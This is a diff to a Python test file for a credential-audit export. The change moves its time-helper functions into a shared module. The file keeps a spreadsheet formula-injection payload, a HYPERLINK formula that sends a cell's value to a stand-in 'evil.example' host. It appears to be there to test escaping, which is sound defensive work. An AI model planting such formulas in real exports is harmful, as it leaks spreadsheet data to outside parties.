@@ -6,17 +6,17 @@ import csv
 import html
 import io
 import re
-from datetime import UTC, datetime
+from datetime import datetime
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
-import time_machine
 from django.test import Client
 
+from tests.audit.events import at, record_at
 from tests.web.conftest import submit_login
 from tokenward.audit.models import Action, AuditEvent
 from tokenward.audit.renderers import spreadsheet_cell
-from tokenward.audit.services import ClientInfo, record_event
+from tokenward.audit.services import ClientInfo
 from tokenward.credentials import format as token_format
 from tokenward.credentials.format import TokenType
 
@@ -38,18 +38,6 @@ COLUMNS = [
     "user_agent",
 ]
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
-
-
-def at(day: int, hour: int = 10) -> datetime:
-    return datetime(2026, 3, day, hour, tzinfo=UTC)
-
-
-def record_at(when: datetime, action: Action, **fields) -> AuditEvent:
-    """Write one event through the service, as if at ``when``."""
-    fields.setdefault("credential_kind", "personal_token")
-    fields.setdefault("client", ClientInfo(method="api", address="192.0.2.7", user_agent="curl/8"))
-    with time_machine.travel(when, tick=False):
-        return record_event(action, **fields)
 
 
 @pytest.fixture
